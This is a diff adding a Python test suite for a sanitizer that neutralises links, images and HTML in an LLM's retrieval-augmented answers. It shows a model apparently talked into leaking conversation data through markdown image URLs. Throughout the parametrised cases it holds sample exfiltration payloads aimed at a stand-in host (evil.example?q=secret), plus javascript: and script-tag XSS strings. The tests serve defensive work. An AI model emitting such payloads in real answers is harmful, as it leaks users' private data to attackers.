@@ -1,0 +1,123 @@
+"""Nothing in an answer is active, however it comes in pieces."""
+
+import re
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from flotilla.rag.inactive import Deactivation, inactive
+from flotilla.rag.reading import Reading
+from tests.unit.rag.conftest import MakePassage
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("See ![logo](https://evil.example/x?q=secret) here.", "See logo here."),
+        ("![](https://evil.example/x)Done.", "Done."),
+        ("![a][ref]\n[ref]: https://evil.example/x\nDone.", "a\nDone."),
+        ("[Click](https://evil.example/a) now.", "Click now."),
+        ("[Terms](https://good.example/terms) apply.", "Terms (https://good.example/terms) apply."),
+        ("Go to https://evil.example/?q=secret.", "Go to ."),
+        ("Go to https://good.example/terms.", "Go to https://good.example/terms."),
+        ("<https://good.example/terms>", "https://good.example/terms"),
+        ('<img src="https://evil.example/p.gif">Text', "Text"),
+        ("<script>alert(1)</script>", "alert(1)"),
+        ('<a href="javascript:alert(1)">x</a>', "x"),
+        ("[x](javascript:alert(1))", "x)"),
+        ("[x](data:text/html;base64,AAAA)", "x"),
+        ("The price [1](https://evil.example/) is 5 [2].", "The price [1] is 5 [2]."),
+        ("if a < b then [note: c]", "if a < b then [note: c]"),
+        ("Wow![1] [2]: so be it", "Wow! [1] [2]: so be it"),
+        # Addresses that are vouched for make nothing active either.
+        ("![x](https://good.example/terms)", "x"),
+        ("![x]\n(https://good.example/terms)", "! [x]\n(https://good.example/terms)"),
+        ("![a\nb](https://good.example/terms)", "! [a\nb] (https://good.example/terms)"),
+        ("[x]:\nhttps://good.example/terms", "[x]\nhttps://good.example/terms"),
+        # What is left out joins nothing.
+        ("<im<a>g src=https://good.example/terms>", "<im g src=https://good.example/terms>"),
+        ("http<a>s://evil.example/", "http s://evil.example/"),
+        ("[htt](x)ps://evil.example/", "htt ps://evil.example/"),
+        ("[![a](x)](https://evil.example/)", "! [a ]"),
+    ],
+)
+def test_nothing_in_an_answer_is_loaded_or_followed(text: str, shown: str) -> None:
+    vouched = ["The terms are at https://good.example/terms."]
+    assert inactive(text, vouched) == shown
+
+
+def test_a_model_that_was_talked_into_it_cites_and_leaks_nothing(passage: MakePassage) -> None:
+    passages = [passage("The deposit is £250 for each car.", 0)]
+    reading = Reading(passages)
+    text = reading.feed(
+        "The deposit is £250 [1](https://evil.example/?a=250). [7] 【9】 "
+        "![x](https://evil.example/?conversation=secret) [\u200b7]"
+    )
+    text += reading.finish()
+    assert text.startswith("The deposit is £250 [1].")
+    assert "evil" not in text
+    assert "[7]" not in text
+    assert [c.quote for c in reading.citations] == ["The deposit is £250 for each car."]
+
+
+PARTS = (
+    *"[]()!<>:/. \n",
+    "1",
+    "ht",
+    "tps:",
+    "//",
+    "evil.example/x",
+    "https://good.example/terms",
+    "img",
+    "a",
+    " src=",
+    "data:a",
+    "javascript:",
+    "words",
+    "[x]: ",
+    "![",
+    "](",
+)
+
+
+@given(parts=st.lists(st.sampled_from(PARTS), max_size=16), data=st.data())
+def test_what_is_given_depends_on_the_text_and_not_on_its_pieces(
+    parts: list[str], data: st.DataObject
+) -> None:
+    text, vouched = "".join(parts), ["The terms are at https://good.example/terms."]
+    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)))) | {0, len(text)})
+    deactivation, given_so_far = Deactivation(vouched), ""
+    for start, end in pairwise(cuts):
+        given_so_far += deactivation.feed(text[start:end])
+        assert Deactivation(vouched).feed(text[:end]) == given_so_far
+    assert given_so_far + deactivation.finish() == inactive(text, vouched)
+
+
+@given(parts=st.lists(st.sampled_from(PARTS), max_size=16))
+def test_nothing_active_is_made_of_what_is_left(parts: list[str]) -> None:
+    text = inactive("".join(parts), ["The terms are at https://good.example/terms."])
+    assert "](" not in text
+    assert "![" not in text
+    assert not re.search(r"</?(?:img|a)\b", text)
+    for address in re.findall(r"(?<![^\W_])https?://[^\s<>]+", text):
+        assert "https://good.example/terms".startswith(address.rstrip(".,:!)]"))
+
+
+def test_only_what_may_become_active_is_held_back() -> None:
+    deactivation = Deactivation()
+    for piece, shown in (
+        ("We open", "We open"),
+        (" at nine [1]", " at nine [1]"),
+        (" and [x", " and "),
+        ("]", ""),
+        (" so", "[x] so"),
+        (" a < b", " a < b"),
+        (" (see", " (see"),
+        (" with h", " with "),
+        ("is https", "his "),
+        ("://evil.example/x", ""),
+        (" now", " now"),
+    ):
+        assert deactivation.feed(piece) == shown, piece
